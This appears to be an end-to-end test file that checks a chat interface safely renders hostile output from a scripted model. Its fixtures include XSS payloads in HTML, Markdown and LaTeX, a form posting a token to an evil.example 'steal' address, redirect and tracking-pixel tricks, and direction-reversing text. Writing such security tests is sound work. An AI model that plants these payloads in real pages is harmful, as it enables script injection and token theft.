import type { Page } from 'playwright-core'
import { describe, expect, test, vi } from 'vitest'
import { type ChatPage, seenText, stageTitles } from '../../support/chat-page.ts'
import { firstMissing, hostileEverywhere, stepFor, wideTable } from '../../support/hostile-model.ts'
import { missingBrowser, startJourneys } from '../../support/journeys.ts'
import { opposites, phone } from '../../support/looks.ts'
import { takePicture, takeWellPicture } from '../../support/pictures.ts'
import { order, type RoleScript, roleOf } from '../../support/reasoning.ts'
import { reply, startScriptedModelServer } from '../../support/scripted-model-server.ts'

// A browser, a database and a model are started before the first of them.
vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 })

/** Whatever might run sets this. */
const run = 'globalThis.canary = 1'
const markup = [
	`<script>${run}</script>`,
	`<img src=x onerror="${run}">`,
	`<svg onload="${run}"><a xlink:href="javascript:${run}">in</a></svg>`,
	`<iframe srcdoc="<script>parent.canary = 1</script>"></iframe>`,
	`<div id="app" onclick="${run}" style="position:fixed;inset:0">over everything</div>`,
	`<form action="https://evil.example/steal"><input name=token><button>Send</button></form>`,
	'<style>* { display: none !important }</style><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
	`<a href="javascript:${run}">a script</a> and <details open ontoggle="${run}"><summary>x</summary></details>`,
	`[a link](javascript:${run.replaceAll(' ', '')}) [another](JaVaScRiPt&#58;${run.replaceAll(' ', '')}) [data](data:text/html,<script>${run}</script>)`,
	`[ref]: javascript:${run.replaceAll(' ', '')}\n\nby [ref] and <javascript:${run.replaceAll(' ', '')}>`,
	'![a picture](https://evil.example/pixel.png) ![another](//evil.example/pixel.png "title")',
	`$$\\href{javascript:${run.replaceAll(' ', '')}}{x}$$ and $$\\htmlStyle{position:fixed}{y} \\includegraphics{https://evil.example/p.png}$$`,
	'```html" onclick="canary=1\n<script>canary = 1</script>\n```',
	`{{${run}}} \${${run}} <%= ${run} %>`,
].join('\n\n')

const turning = 'Pay \u202E00.001$\u202C to \u2067evil\u2069 \u200F\u061Cnow \u0000\u0007\u001B[31mred end-of-text'
const texts = {
	'10,000 lines': `${Array.from({ length: 10_000 }, (_, line) => `Line ${line} of it.`).join('\n')} end-of-text`,
	'characters that turn the reading direction': turning,
	'a table of 200 columns': `${wideTable}\n\nend-of-text`,
	'fences and marks that never end':
		'**bold _and `code\n\n> quote\n> ```js\n> let a = 1\n\n````\n```\n| a | b\n~~~ end-of-text',
	'a word of 200,000 characters': `${'a'.repeat(200_000)} end-of-text`,
	'200,000 characters of Markdown': `${'- **a** [b](https://example.org) `c` <b>d</b>\n'.repeat(4_400)}end-of-text`,
	'lists and quotes in each other, 2,000 deep': `${'> '.repeat(1_000)}${'- '.repeat(1_000)} end-of-text`,
}

describe.skipIf(missingBrowser.length > 0)(['what a hostile model writes', ...missingBrowser].join(' '), () => {
	let script: RoleScript = {}
	const journeys = startJourneys(() => startScriptedModelServer((request) => stepFor(roleOf(request), script)))

	test.each(opposites)(
		'$width, $theme: runs in no stage and no record, and stands there as it was written',
		async (look) => {
			script = hostileEverywhere(markup)
			const chat = await journeys.begin({ ...look, motion: false })
			await chat.ask(`Is this one harmless? ${markup.slice(0, 200)}`, 'medium')
			await chat.answered()
			for (const title of stageTitles) {
				const record = chat.stage(title).locator('summary')
				if ((await record.count()) > 0) await chat.openStage(title)
			}
			await takeWellPicture(chat.page, 'hostile markup')
			await isHarmless(chat)
			expect(await seenText(chat.thread.locator('.answer').first())).toContain(`<script>${run}</script>`)
			await chat.page.getByRole('link', { name: 'Full record' }).first().click()
			await chat.page.getByRole('row', { name: /run-end/ }).waitFor()
			await chat.page.evaluate('for (const details of document.querySelectorAll(".trace details")) details.open = true')
			expect(await linksThatLeadNowhereGood(chat.page)).toEqual([])
			expect(await chat.page.evaluate('globalThis.canary')).toBeUndefined()
			expect(await widthBeyondViewport(chat.page)).toBeLessThanOrEqual(0)
		},
	)

	test.each(Object.entries(texts))('is whole and leaves the page usable: %s', async (name, text) => {
		script = { answer: reply(text) }
		const chat = await journeys.begin(phone)
		await chat.ask(order.question, 'medium')
		await chat.answered()
		await takePicture(chat.page, `hostile ${name}`)
		await isHarmless(chat)
		expect(firstMissing(text, await seenText(chat.thread.locator('.answer').first()))).toBeNull()
	})
})

/** Nothing ran, the page fits, and the next question is asked and answered as ever. */
async function isHarmless(chat: ChatPage): Promise<void> {
	const { page } = chat
	expect(await widthBeyondViewport(page)).toBeLessThanOrEqual(0)
	expect(await linksThatLeadNowhereGood(page)).toEqual([])
	await chat.ask('What is 17 * 23?', 'quick')
	await page.locator('article.exchange').nth(1).locator('.answer', { hasText: 'It is $104.' }).waitFor()
	expect(await widthBeyondViewport(page)).toBeLessThanOrEqual(0)
	expect(await page.evaluate('globalThis.canary')).toBeUndefined()
	expect(await page.locator('script, iframe, object, embed, form[action], base, meta[http-equiv], style').count()).toBe(
		3,
	)
}

async function widthBeyondViewport(page: Page): Promise<unknown> {
	return page.evaluate('document.documentElement.scrollWidth - innerWidth')
}

/** Links to anything but pages, ours or others'. */
async function linksThatLeadNowhereGood(page: Page): Promise<readonly string[]> {
	const addresses = await page.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''))
	return addresses.filter((address) => !/^(?:https?:\/\/|mailto:|\/|#)/.test(address) || address.startsWith('//'))
}
